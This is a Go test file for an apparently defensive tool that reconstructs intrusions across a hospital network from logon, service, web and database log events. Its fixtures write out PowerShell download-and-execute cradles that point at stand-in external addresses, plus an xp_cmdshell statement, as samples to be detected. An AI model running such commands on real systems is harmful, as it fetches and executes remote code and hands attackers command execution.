package verdict

import (
	"strings"
	"testing"

	"wardround/internal/event"
)

func lineOf(v event.Verdict, line string) *event.Reason {
	for i := range v.Because {
		if v.Because[i].Line == line {
			return &v.Because[i]
		}
	}
	return nil
}

// TestDeparture: the session in which a server was attacked was opened from another. That is evidence against the other,
// which an antivirus detection a day later joins; alone it is none.
func TestDeparture(t *testing.T) {
	for _, c := range []struct {
		name  string
		how   string
		habit bool
		virus bool
		want  event.Judgement
	}{
		{"and a detection", "rdp", false, true, event.Infiltrated},
		{"alone", "rdp", false, false, event.Suspected},
		{"and a detection days before", "rdp", false, true, event.Infiltrated},
		{"by a database's client", "database", false, true, event.Suspected},
		{"as every day at that hour", "rdp", true, true, event.Suspected},
	} {
		w := newWorld("S", "T")
		w.move("S", "T", `HOSP\dba`, c.how, hour(1))
		if c.habit {
			for d := range 6 {
				w.move("S", "T", `HOSP\dba`, c.how, hour(1-24*float64(d+9)))
			}
		}
		w.find("T", "credentials read", hour(2), "User", `HOSP\dba`)
		w.find("T", "protection off", hour(2.2), "User", `HOSP\dba`)
		if c.virus {
			at := hour(26)
			if strings.HasSuffix(c.name, "before") {
				at = hour(-70)
			}
			w.find("S", "antivirus detection", at)
		}
		got := w.judge()["S"]
		departed := lineOf(got, "departure")
		if got.Verdict != c.want || (departed != nil) != (c.how == "rdp" && !c.habit) {
			t.Errorf("%s: %s because %+v", c.name, got.Verdict, got.Because)
		}
		if departed != nil && (!strings.Contains(departed.Says, "T") || departed.Time != hour(1)) {
			t.Errorf("%s: %+v", c.name, departed)
		}
	}
}

// TestDepartureByRoot: nobody but root works on a hypervisor; the session before the encryptor shows from where.
func TestDepartureByRoot(t *testing.T) {
	w := newWorld("S", "ESX:hypervisor")
	w.move("S", "ESX", "root", "ssh", hour(1))
	w.find("ESX", "hypervisor encryptor", hour(2), "user", "root")
	if d := lineOf(w.judge()["S"], "departure"); d == nil || strings.Contains(d.Says, "account") {
		t.Errorf("%+v", d)
	}
}

// TestDepartureOfTheIntruderNotOfTheAdministrator: who came with the same account after the intruder did is not blamed.
func TestDepartureOfTheIntruderNotOfTheAdministrator(t *testing.T) {
	w := newWorld("F", "T", "JUMP")
	w.find("F", "web shell", hour(0), "User", `HOSP\dba`)
	w.move("F", "T", `HOSP\dba`, "rdp", hour(1))
	w.move("JUMP", "T", `HOSP\dba`, "rdp", hour(3))
	w.find("T", "credentials read", hour(4), "User", `HOSP\dba`)
	w.find("T", "protection off", hour(4.2), "User", `HOSP\dba`)
	if got := w.judge()["JUMP"]; got.Verdict != event.Inconclusive {
		t.Errorf("JUMP is %s because %+v", got.Verdict, got.Because)
	}
}

// TestExposedAccounts: whose session was open when a server's memory of logons was read, his account is the intruder's; an
// approval that lists him still explains what he did.
func TestExposedAccounts(t *testing.T) {
	for _, c := range []struct {
		how  string
		at   float64
		want bool // his way on counts as movement
	}{{"rdp", -40, true}, {"network logon", -40, false}, {"rdp", -24 * 9, false}, {"rdp", 3, false}} {
		w := newWorld("F", "T", "U")
		w.move("DESK", "F", `HOSP\adm`, c.how, hour(c.at))
		w.find("F", "web shell", hour(0), "User", `HOSP\one`)
		w.find("F", "credentials read", hour(1), "User", `HOSP\one`)
		w.move("F", "T", `HOSP\adm`, "network logon", hour(4))
		w.find("U", "remote service", hour(5), "ServiceName", "PSEXESVC", "User", `HOSP\adm`)
		w.opt.Changes = []event.Change{{Line: 2, From: hour(4.5), To: hour(6), Account: `HOSP\adm`}}
		got := w.judge()
		if (lineOf(got["T"], "movement") != nil) != c.want {
			t.Errorf("%s at %v: T is %s because %+v", c.how, c.at, got["T"].Verdict, got["T"].Because)
		}
		if got["U"].Verdict != event.Inconclusive || len(got["U"].Against) != 1 {
			t.Errorf("%s at %v: U is %s", c.how, c.at, got["U"].Verdict)
		}
	}
}

// TestUsedEarly: an account that is proven taken later was the intruder's when it first came from a server that was
// infiltrated by then and that it had never come from; its owner's own ways are not.
func TestUsedEarly(t *testing.T) {
	for _, owned := range []bool{false, true} {
		w := newWorld("F", "T", "Z")
		w.find("F", "web shell", hour(0), "User", `HOSP\one`)
		if owned {
			w.move("F", "Z", `HOSP\adm`, "rdp", hour(-100))
		}
		w.move("F", "T", `HOSP\adm`, "winrm", hour(10))
		w.find("T", "antivirus detection", hour(12))
		w.find("Z", "protection off", hour(60), "User", `HOSP\adm`)
		w.find("Z", "backups deleted", hour(61), "User", `HOSP\adm`)
		want := event.Infiltrated
		if owned {
			want = event.Suspected
		}
		if got := w.judge()["T"]; got.Verdict != want {
			t.Errorf("owned %v: %s because %+v", owned, got.Verdict, got.Because)
		}
	}
}

// TestSinceReachesBackToTheArrival: of the session in which the first act was done, and of a stranger from the world at
// large days before.
func TestSinceReachesBackToTheArrival(t *testing.T) {
	for _, c := range []struct {
		from string
		who  string
		at   float64
		want float64 // earliest possible is at most that, and no more than the log's step before
	}{{"DESK", `HOSP\dba`, 5.5, 5.5}, {"198.18.0.7", `HOSP\supplier`, -60, -60}, {"10.0.0.9", `HOSP\nurse`, 2, 9.8}} {
		w := newWorld("A")
		w.watched("A", hour(24))
		w.move(c.from, "A", c.who, "rdp", hour(c.at))
		w.find("A", "credentials read", hour(10), "User", `HOSP\dba`)
		w.find("A", "protection off", hour(10.2), "User", `HOSP\dba`)
		got := w.judge()["A"].Since
		if got == nil || got.EarliestPossible > hour(c.want+0.2) || got.EarliestPossible < hour(c.want-0.2) || got.FirstProven != hour(10) || got.BoundedBy != "answered" {
			t.Errorf("%s: %+v, want from %s", c.who, got, hour(c.want))
		}
	}
}

// TestDesktopIsTheArrival: the logon over the network that comes with a remote desktop is no arrival of its own.
func TestDesktopIsTheArrival(t *testing.T) {
	w := newWorld("F", "T")
	w.find("F", "web shell", hour(0), "User", `HOSP\one`)
	w.move("F", "T", `HOSP\one`, "network logon", hour(1))
	w.move("F", "T", `HOSP\one`, "rdp", hour(1.001))
	w.find("T", "protection off", hour(1.5))
	got := w.judge()["T"]
	if m := lineOf(got, "movement"); m == nil || !strings.HasPrefix(m.Says, "rdp") || got.Since.FirstProven != hour(1.001) {
		t.Errorf("%+v, %+v", got.Because, got.Since)
	}
}

// TestNewcomer: an account that is not proven taken counts as the intruder's where it comes from an infiltrated server for the
// first time and does in that session what needs a mate; what its owner is used to does not.
func TestNewcomer(t *testing.T) {
	for _, c := range []struct {
		name   string
		before bool    // the account came from there before
		does   float64 // hours after the logon; 0: nothing
		who    string
		want   event.Judgement
	}{
		{"in that session", false, 1, `HOSP\adm`, event.Infiltrated},
		{"nothing done", false, 0, "", event.NoEvidence},
		{"by another account", false, 1, `HOSP\other`, event.Suspected},
		{"next day", false, 20, `HOSP\adm`, event.Suspected},
		{"by an administrator who works from there", true, 1, `HOSP\adm`, event.Suspected},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld("S", "T", "U")
			for _, s := range []string{"S", "T", "U"} {
				w.watched(s, hour(48))
			}
			w.find("T", "web shell", hour(1), "User", "www")
			if c.before {
				w.move("T", "U", `HOSP\adm`, "rdp", hour(-30))
			}
			w.move("10.0.0.9", "T", `HOSP\adm`, "rdp", hour(3.5)) // his own desktop: he may hop on from it
			w.move("T", "S", `HOSP\adm`, "rdp", hour(4))
			if c.does > 0 {
				w.find("S", "administrator made", hour(4+c.does), "SubjectDomainName", "HOSP", "SubjectUserName", c.who[5:], "TargetUserName", "temp")
			}
			if v := w.judge()["S"]; v.Verdict != c.want {
				t.Errorf("got %s, want %s: %+v", v.Verdict, c.want, v.Because)
			}
		})
	}
}

// TestDoerBySID: the log of services knows who installed one by SID alone; logons tell whose that is. A service that an account
// sets to start in the session in which it first came from an infiltrated server shows whose hand it was, where the SID of
// another, or one that no log names, does not.
func TestDoerBySID(t *testing.T) {
	const one, two = "S-1-5-21-1-2-3-1303", "S-1-5-21-1-2-3-1304"
	for _, c := range []struct {
		name, sid string
		want      event.Judgement
	}{{"his", one, event.Infiltrated}, {"another's", two, event.Suspected}, {"unknown", "S-1-5-21-9-9-9-1303", event.Suspected}} {
		w := newWorld("F", "T")
		w.opt.Account = func(sid string) string { return map[string]string{one: `hosp\svc_site`, two: `hosp\adm`}[sid] }
		w.find("F", "web shell", hour(0), "User", "www")
		w.move("F", "T", `HOSP\svc_site`, "network logon", hour(60))
		w.find("T", "program set to start", hour(60.6), "ServiceName", "GfxSvc", "ImagePath", `C:\ProgramData\x\gfx.exe`, "Security_UserID", c.sid)
		v := w.judge()["T"]
		if v.Verdict != c.want {
			t.Errorf("%s: %s because %+v", c.name, v.Verdict, v.Because)
		}
		if c.want == event.Infiltrated && v.Since.EarliestPossible > hour(60) {
			t.Errorf("%s: since %+v", c.name, v.Since)
		}
	}
}

// TestScriptCalled: a script among a site's uploads that one stranger calls joins what the intruder did there; what many call,
// or was called so before, is the site's own.
func TestScriptCalled(t *testing.T) {
	const script = "/site/uploads/rx.aspx"
	for _, c := range []struct {
		name   string
		many   bool
		before bool
		mate   bool
		want   event.Judgement
	}{
		{"and a detection", false, false, true, event.Infiltrated},
		{"alone", false, false, false, event.Suspected},
		{"used by many", true, false, true, event.Suspected},
		{"used before", false, true, true, event.Suspected},
	} {
		w := newWorld("WEB", "F")
		w.find("F", "web shell", hour(0), "User", "www")
		w.find("WEB", "script called", hour(2), "cs-uri-stem", script, "c-ip", "203.0.113.9")
		if c.many {
			w.find("WEB", "script of many", hour(3), "cs-uri-stem", script)
		}
		if c.before {
			w.find("WEB", "script called", hour(-24*9), "cs-uri-stem", script, "c-ip", "203.0.113.77")
		}
		if c.mate {
			w.find("WEB", "antivirus detection", hour(4))
		}
		got := w.judge()["WEB"]
		if got.Verdict != c.want {
			t.Errorf("%s: %s because %+v, against %+v", c.name, got.Verdict, got.Because, got.Against)
		}
		if c.want == event.Infiltrated && (len(got.From) == 0 || got.From[0].Address == nil || *got.From[0].Address != "203.0.113.9") {
			t.Errorf("%s: from %+v", c.name, got.From)
		}
	}
}

// TestAuditNamesClient: an audit of SQL Server says in its text who sent a statement, and from where.
func TestAuditNamesClient(t *testing.T) {
	w := newWorld("DB", "APP")
	w.find("DB", "database command of the attacker", hour(1), "Data", "audit_schema_version:1\naction_id:EX  \nclient_ip:10.0.2.4\nsession_server_principal_name:HOSP\\svc_lis\nserver_principal_name:NT AUTHORITY\\SYSTEM\nstatement:EXEC xp_cmdshell 'x:y'")
	got := w.judge()["DB"]
	if len(got.From) != 1 || got.From[0].Address == nil || *got.From[0].Address != "10.0.2.4" || got.From[0].Account == nil || *got.From[0].Account != `hosp\svc_lis` {
		t.Errorf("%+v", got.From)
	}
}

// TestScriptFetched: the address that a script was fetched from is where it came from; one inside is none.
func TestScriptFetched(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"IEX (New-Object Net.WebClient).DownloadString('http://198.18.0.7/a')", "198.18.0.7"},
		{"iex (irm http://198.18.0.7:8080/a); irm http://10.1.1.1/b", "198.18.0.7"},
		{"iex (irm http://10.1.1.1/a)", ""},
	} {
		w := newWorld("TS")
		w.find("TS", "script fetched", hour(1), "ScriptBlockText", c.text)
		w.find("TS", "protection off", hour(2))
		got := w.judge()["TS"]
		address := ""
		if len(got.From) > 0 && got.From[0].Address != nil {
			address = *got.From[0].Address
		}
		if got.Verdict != event.Infiltrated || len(got.From) > 1 || address != c.want {
			t.Errorf("%q: %s from %+v", c.text, got.Verdict, got.From)
		}
	}
}

// TestDepartureIsNoSession: with whose password the intruder went on from a server does not say in whose session he sat there:
// whoever had opened one with that account before is not blamed.
// TestDeparturePassedBy: an administrator came in the afternoon; at night the account came from an infiltrated server, which
// that one's log alone tells where the victim's was cleared.
func TestDeparturePassedBy(t *testing.T) {
	for _, cleared := range []bool{true, false} {
		w := newWorld("F", "T", "JUMP")
		w.find("F", "web shell", hour(0), "User", `HOSP\dba`)
		w.move("JUMP", "T", `HOSP\dba`, "rdp", hour(1))
		w.move("F", "T", `HOSP\dba`, "connection to rpc", hour(5))
		m := &w.moves[len(w.moves)-1]
		m.From, m.Workstation, m.SeenFrom, m.By = "F", "", "source", "F"
		w.find("T", "credentials read", hour(5.1), "User", `HOSP\dba`)
		w.find("T", "protection off", hour(5.2), "User", `HOSP\dba`)
		if !cleared {
			w.watched("T", hour(24))
		}
		if d := lineOf(w.judge()["JUMP"], "departure"); (d == nil) != cleared {
			t.Errorf("cleared %v: JUMP %+v", cleared, d)
		}
	}
}

func TestDepartureIsNoSession(t *testing.T) {
	w := newWorld("S", "T", "JUMP")
	w.find("S", "web shell", hour(0), "User", "www")
	w.move("JUMP", "S", `HOSP\adm`, "rdp", hour(-1))
	w.move("S", "T", `HOSP\adm`, "network logon", hour(5))
	w.find("T", "credentials read", hour(5.1), "User", `HOSP\adm`)
	w.find("T", "protection off", hour(5.2), "User", `HOSP\adm`)
	got := w.judge()
	if lineOf(got["S"], "departure") == nil {
		t.Fatalf("S: %+v", got["S"].Because)
	}
	if d := lineOf(got["JUMP"], "departure"); d != nil {
		t.Errorf("JUMP: %+v", d)
	}
}

// TestLogonIsLentToItsOwner: where the log names who installed a service, only that account's logon right before is its source.
func TestLogonIsLentToItsOwner(t *testing.T) {
	for _, c := range []struct{ who, want string }{{`hosp\adm`, "DESK"}, {`hosp\other`, ""}} {
		w := newWorld("T")
		w.opt.Account = func(string) string { return c.who }
		w.move("DESK", "T", `HOSP\adm`, "network logon", hour(0.99))
		w.find("T", "program set to start", hour(1), "ServiceName", "GfxSvc", "Security_UserID", "S-1-5-21-1-2-3-1303")
		w.find("T", "credentials read", hour(2))
		got := w.judge()["T"].From
		source := ""
		if len(got) > 0 && got[0].Address != nil {
			source = *got[0].Address
		}
		if !strings.EqualFold(source, c.want) {
			t.Errorf("%s: from %+v", c.who, got)
		}
	}
}

// TestBeforeItHadItsName: what was logged under the name that Windows' setup makes up is of the template that a server was made
// from, but for what is decisive alone; a server that kept such a name is judged as any other.
func TestBeforeItHadItsName(t *testing.T) {
	for _, c := range []struct {
		server, computer, line string
		want                   event.Judgement
	}{
		{"LAB2", "WIN-4J2K9QX7A1B.hosp.local", "remote service", event.NoEvidence},
		{"LAB2", "LAB1", "remote service", event.Suspected},
		{"LAB2", "WIN-4J2K9QX7A1B", "encrypted here", event.Infiltrated},
		{"WIN-4J2K9QX7A1B", "WIN-4J2K9QX7A1B", "remote service", event.Suspected},
	} {
		w := newWorld(c.server)
		w.watched(c.server, hour(48))
		w.find(c.server, c.line, hour(1), "ServiceName", "PSEXESVC", "Computer", c.computer)
		if got := w.judge()[event.ServerID(c.server)]; got.Verdict != c.want {
			t.Errorf("%s as %s: %s because %+v", c.server, c.computer, got.Verdict, got.Because)
		}
	}
}
